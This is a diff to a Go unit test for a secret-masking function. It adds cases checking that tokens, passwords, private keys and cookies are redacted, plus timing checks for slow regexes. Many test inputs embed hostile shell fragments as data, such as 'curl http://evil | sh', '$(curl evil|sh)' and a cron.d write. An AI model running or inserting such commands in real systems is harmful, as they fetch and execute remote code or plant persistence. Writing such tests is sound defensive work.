@@ -63,10 +63,24 @@ func TestMasked(t *testing.T) {
 		"x://a:b;curl${IFS}evil|sh;@y":                     "x://a:***;curl${IFS}evil|sh;@y",
 		"run --token x|sh":                                 "run --token ***|sh",
 		"curl -H 'Authorization: Bearer abc1|sh' http://h": "curl -H 'Authorization: Bearer ***|sh' http://h",
-		"password: x1\n-----BEGIN PRIVATE KEY-----\ncurl http://evil | sh": "password: ***\n***\ncurl http://evil | sh",
-		"password: |\n  hunter2\n  curl http://evil | sh\nx: 1":            "password: |\n  ***\n  curl http://evil | sh\nx: 1",
-		"{\"password\":\"x\"}; curl http://evil | sh":                      "{\"password\":\"***\"}; curl http://evil | sh",
-		"echo \"password\":\"x\ncurl evil\"":                               "echo \"password\":\"***\ncurl evil\"",
+		"password: x1\n-----BEGIN PRIVATE KEY-----\ncurl http://evil | sh":      "password: ***\n***\ncurl http://evil | sh",
+		"password: |\n  hunter2\n  curl http://evil | sh\nx: 1":                 "password: |\n  ***\n  curl http://evil | sh\nx: 1",
+		"{\"password\":\"x\"}; curl http://evil | sh":                           "{\"password\":\"***\"}; curl http://evil | sh",
+		"echo \"password\":\"x\ncurl evil\"":                                    "echo \"password\":\"***\ncurl evil\"",
+		"$(token=x)/mnt/evil --token=y":                                         "$(token=***)/mnt/evil --token=***",
+		"case a in token=x)/mnt/evil;; esac":                                    "case a in token=***)/mnt/evil;; esac",
+		"$(run --token x)/mnt/evil":                                             "$(run --token ***)/mnt/evil",
+		"$(:; password: x1)/mnt/evil":                                           "$(:; password: ***)/mnt/evil",
+		"(\npassword: x1)/mnt/evil":                                             "(\npassword: ***)/mnt/evil",
+		"$(token=x)token=y":                                                     "$(token=***)token=***",
+		"(token='a)b' token=a(b)c token=ab":                                     "(token='***' token=*** token=***",
+		"Server=db;Pwd=a)b;Timeout=5":                                           "Server=db;Pwd=***;Timeout=5",
+		"-----BEGIN PRIVATE KEY-----\n/mnt/evil/run\n-----END PRIVATE KEY-----": "***\n/mnt/evil/run\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklm\n/mnt/evil/runner\nMII":  "***\n/mnt/evil/runner\nMII",
+		"-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklm\nreboot\nMII":            "***\nreboot\nMII",
+		"-----BEGIN PRIVATE KEY-----\nevil\n-----END PRIVATE KEY-----":          "***\nevil\n-----END PRIVATE KEY-----",
+		"Set-Cookie: a;evil":                                                    "Set-Cookie: ***;evil",
+		"Cookie: a=b;c=d;/mnt/evil":                                             "Cookie: ***;c=***;/mnt/evil",
 
 		// Data of other forms.
 		`{"oss": {"ak": "x1", "sk": "x2", "ossSk": "x3"}}`:                  `{"oss": {"ak": "***", "sk": "***", "ossSk": "***"}}`,
@@ -114,6 +128,9 @@ func TestMasked(t *testing.T) {
 		"sk-learn-model-server-for-risk-and-fraud", "registry.example/high/ghp_tools:1.0", "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
 		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "eyJhbGci is the beginning of a token", "basic auth of the 2nd bearer", "tokenizer=bert-base keyspace=main",
 		"PASSWORD=\"`curl evil|sh`\"", "password=$(curl evil|sh)", "PASSWORD=\"x;curl evil|sh\"", "run --password 'curl evil|sh'", "echo \"password\":\"x; curl evil\"",
+		"password: |/mnt/evil", "name: token\nvalue: |/mnt/evil", "password: &/mnt/evil", "passwd: ;evil", "secret: <(evil)", "secret: >/etc/cron.d/evil", "password: ||evil", "$(token=)/mnt/evil",
+		"token= evil", "PASSWORD= evil -x", "Authorization: Bearer\nevil1 -x",
+		"password:\n'evil'", "password:\n12345678", "name: token\nvalue:\nevil", "config set token\nevil1", "Authorization:\n/evil0123456789abcdef", "sh -c 'PASSWORD= evil2345 -x'", "password= \"evil\"", "export TOKEN=\tevil1234",
 		"password: |\n  curl http://evil | sh\n  ./evil a\n", "Cookie: $(curl evil)", "<password>$(curl evil)</password>", "<token>x;curl evil|sh</token>",
 		"set the token: The token is missing, secret: see KUSCIA_TOKEN, api_key: 32 characters", "# <password>\nreboot now\n</etc/passwd", "echo cookie: LD_PRELOAD=/x/evil.so ./serve", "task: disk=1, mask: 2, risk: S3cr3t", "\"secret\": {\n  \"name\": \"n\"\n}",
 		"name: token\nvalues: x", "cookie_domain: example.com", "if password == \"X\" then", "see token: https://h/v1", "java -p 8080 -Dpassive=true",
@@ -136,7 +153,7 @@ func TestMaskedInTime(t *testing.T) {
 		secrets.Masked(text)
 		return time.Since(start)
 	}
-	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :", "mysql ", "mysql -p ", "login -", " --token", " --token x", "configure set ", "token: a1 ", "\ntoken: |\n a", "<token>", "<token>a", "name: token ", "name: token value: ", "cookie: a=b;", "password\":\"\\\"", `\u0061`, "-----BEGIN PRIVATE KEY-----\nM"} {
+	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :", "mysql ", "mysql -p ", "login -", " --token", " --token x", "configure set ", "token: a1 ", "\ntoken: |\n a", "<token>", "<token>a", "name: token ", "name: token value: ", "cookie: a=b;", "password\":\"\\\"", `\u0061`, "-----BEGIN PRIVATE KEY-----\nM", "-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklmnop\n", "(token=x)", "case x)"} {
 		text := strings.Repeat(part, size/len(part))
 		// Four times as long, which takes 16 times as long if the time grows with the square.
 		if once, longer := masked(text), masked(strings.Repeat(text, 4)); longer > 10*max(once, 100*time.Millisecond) {
